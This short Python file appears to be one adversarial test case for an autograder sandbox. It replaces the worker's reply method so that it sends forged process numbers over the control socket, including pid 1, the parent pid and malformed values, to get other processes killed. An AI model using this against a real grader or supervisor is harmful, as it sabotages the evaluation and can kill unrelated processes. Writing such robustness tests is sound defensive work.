"""Speaks on the control socket: other people's process numbers, several answers, noise, silence."""
# Row: 11
# Honest: wrong
# Danger: names other processes as its own, to have them killed
import json, os, socket, sys
worker = sys.modules["autograder.sandbox.worker"]

def reply(self, **answer):
    for pid in (1, 2, os.getppid(), -1, 0, os.getpid() - 1, 2 ** 40, "1", None, [1]):
        try:
            self.control.send(json.dumps({"pid": pid, "status": 0}).encode(), socket.MSG_DONTWAIT)
        except OSError:
            pass

worker.Worker._reply = reply
